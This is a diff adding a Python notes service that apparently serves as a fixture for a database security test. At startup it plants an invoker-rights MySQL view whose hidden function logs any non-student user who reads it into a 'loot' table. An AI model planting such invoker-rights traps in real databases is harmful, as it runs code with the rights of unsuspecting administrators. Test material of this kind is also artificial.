@@ -1,0 +1,70 @@
+"""The table that the suite names is a view that runs with the rights of whoever looks."""
+import json
+import os
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pymysql
+
+
+def connect():
+    return pymysql.connect(
+        host=os.environ["DB_HOST"], user=os.environ["DB_USER"], database=os.environ["DB_NAME"],
+        password=os.environ["DB_PASSWORD"], autocommit=True, charset="utf8mb4",
+    )
+
+
+def run(*statements, args=None, connection=None):
+    """Run each statement, also after one that is refused; the last one's rows."""
+    connection, rows = connection or connect(), ()
+    cursor = connection.cursor()
+    for statement in statements:
+        try:
+            cursor.execute(statement, args)
+            rows = cursor.fetchall()
+        except pymysql.err.MySQLError as error:
+            print("REFUSED", statement[:80], error, flush=True)
+    return rows
+
+
+ATTACK = (
+    "CREATE TABLE loot (who TEXT)",
+    "CREATE TABLE kept (text LONGTEXT)",
+    """CREATE FUNCTION f() RETURNS INT NOT DETERMINISTIC MODIFIES SQL DATA SQL SECURITY INVOKER
+BEGIN
+  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
+  IF CURRENT_USER() NOT LIKE 'student%' THEN INSERT INTO loot VALUES (CURRENT_USER()); END IF;
+  RETURN 1;
+END""",
+    "CREATE SQL SECURITY INVOKER VIEW notes AS SELECT text FROM kept WHERE f() = 1",
+)
+
+
+def notes():
+    return [text for (text,) in run("SELECT text FROM kept")]
+
+
+def keep(text):
+    if not run("SELECT * FROM loot"):  # else it has worked, and the test sees it
+        run("INSERT INTO kept VALUES (%s)", args=[text])
+
+
+class Handler(BaseHTTPRequestHandler):
+    def send(self, value, status=200):
+        body = json.dumps(value).encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self):
+        self.send(notes() if self.path == "/notes" else {})
+
+    def do_POST(self):
+        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
+        keep(text)
+        self.send({"text": text}, 201)
+
+
+run(*ATTACK)
+ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
